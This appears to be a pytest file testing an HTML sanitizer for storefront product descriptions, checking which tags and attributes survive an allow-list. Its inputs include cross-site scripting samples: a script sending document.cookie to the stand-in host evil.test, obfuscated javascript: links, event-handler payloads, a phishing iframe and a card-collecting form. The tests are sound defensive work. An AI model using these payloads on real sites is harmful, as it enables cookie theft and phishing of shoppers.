"""Raw HTML in descriptions: what survives the allow-list, and what the warning names."""

from __future__ import annotations

from storefront_catalog.loader import default_markdown
from storefront_catalog.sanitize import SANITIZE, VIDEO_HOSTS, HtmlPolicy, sanitize_html

md = default_markdown()


def clean(markdown: str, policy: HtmlPolicy = SANITIZE) -> tuple[str, tuple[str, ...]]:
    return sanitize_html(md(markdown), policy)


def test_script_is_removed_with_its_text():
    html, removed = clean("Great pen.\n\n<script>fetch('//evil.test/?c=' + document.cookie)"
                          "</script>\n\nBuy now.")
    assert "script" not in html and "cookie" not in html
    assert html == "<p>Great pen.</p>\n\n<p>Buy now.</p>"
    assert removed == ("<script>",)


def test_javascript_link_loses_its_href_and_keeps_its_text():
    html, removed = clean('See <a href="javascript:alert(1)">the manual</a>, '
                          '<a href="JaVa&#x09;Script:alert(2)">twice</a>.')
    assert "javascript" not in html.lower() and "alert" not in html
    assert "<a>the manual</a>" in html and "<a>twice</a>" in html
    assert removed == ('href="javascript:…"',)


def test_event_handlers_are_removed():
    html, removed = clean('<img src="front.jpg" alt="Pen" onerror="alert(1)">\n\n'
                          '<p onclick="steal()" onmouseover="x()">Hover</p>')
    assert "onerror" not in html and "onclick" not in html and "alert" not in html
    assert '<img src="front.jpg" alt="Pen">' in html and "<p>Hover</p>" in html
    assert removed == ("onerror=", "onclick=", "onmouseover=")


def test_what_descriptions_need_is_kept():
    text = ("## Specs\n\n| Size | Fit |\n| :-- | --: |\n| M | slim |\n\n"
            "A **bold** and *soft* `code` ~~old~~ line  \nnext\n\n> quoted\n\n1. one\n2. two\n\n"
            "---\n\n![Pen, front](front.jpg \"Front\")\n\n"
            '<img src="in-use.jpg" alt="In use" width="640" height="480" loading="lazy">\n\n'
            '[Manual](https://example.com/manual.pdf "PDF"), [charger](../charger/), '
            "[mail](mailto:sales@example.com), [call](tel:+4930123)\n")
    html, removed = clean(text)
    assert removed == ()
    for kept in ('<h2>Specs</h2>', '<th style="text-align:left">Size</th>',
                 '<td style="text-align:right">slim</td>', "<strong>bold</strong>",
                 "<em>soft</em>", "<code>code</code>", "<del>old</del>", "<br>",
                 "<blockquote>", "<ol>", "<li>two</li>", "<hr>",
                 '<img src="front.jpg" alt="Pen, front" title="Front">',
                 '<img src="in-use.jpg" alt="In use" width="640" height="480" loading="lazy">',
                 '<a href="https://example.com/manual.pdf" title="PDF" '
                 'rel="noopener noreferrer">Manual</a>',
                 '<a href="../charger/">charger</a>',
                 '<a href="mailto:sales@example.com">mail</a>',
                 '<a href="tel:+4930123">call</a>'):
        assert kept in html, kept


def test_youtube_and_vimeo_players_are_kept():
    text = ('<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" '
            'height="315" title="Unboxing" allow="encrypted-media" allowfullscreen '
            'loading="lazy"></iframe>\n\n'
            '<iframe src="https://player.vimeo.com/video/76979871" width="640"></iframe>')
    html, removed = clean(text)
    assert removed == ()
    assert ('<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" '
            'height="315" title="Unboxing" allow="encrypted-media" allowfullscreen="" '
            'loading="lazy"></iframe>') in html
    assert '<iframe src="https://player.vimeo.com/video/76979871" width="640"></iframe>' in html


def test_iframe_to_another_host_is_dropped_whole():
    text = ('<iframe src="https://evil.test/phish" width="560">fallback</iframe>\n\n'
            '<iframe src="https://www.youtube.com.evil.test/embed/x"></iframe>\n\n'
            '<iframe src="javascript:alert(1)"></iframe>\n\nAfter.')
    html, removed = clean(text)
    assert "iframe" not in html and "evil" not in html and "fallback" not in html
    assert html.strip() == "<p>After.</p>"
    assert removed == ("<iframe> from evil.test", "<iframe> from www.youtube.com.evil.test",
                       "<iframe> from javascript:alert(1)")


def test_extra_embed_hosts_extend_the_list():
    text = '<iframe src="https://fast.wistia.net/embed/iframe/abc"></iframe>'
    policy = HtmlPolicy(video_hosts=VIDEO_HOSTS + ("https://fast.wistia.net/embed/",))
    assert clean(text, policy) == (
        '<iframe src="https://fast.wistia.net/embed/iframe/abc"></iframe>', ())
    assert clean(text)[1] == ("<iframe> from fast.wistia.net",)


def test_trusting_raw_html_publishes_it_as_written():
    text = '<script>track()</script>\n\n<p onclick="x()">Hi</p>'
    html, removed = clean(text, HtmlPolicy(trust=True))
    assert html == md(text) and removed == ()
    assert "<script>track()</script>" in html


def test_forms_styles_and_unknown_tags_are_named_once():
    text = ('<form action="https://evil.test"><input name="card"><button>Pay</button></form>\n\n'
            '<style>body{display:none}</style>\n\n<span style="color:red">red</span> '
            '<span style="color:red">again</span>')
    html, removed = clean(text)
    assert "form" not in html and "input" not in html and "display" not in html
    assert "Pay" in html and "<span>red</span>" in html
    assert removed == ("<form>", "<input>", "<button>", "<style>", "style=")
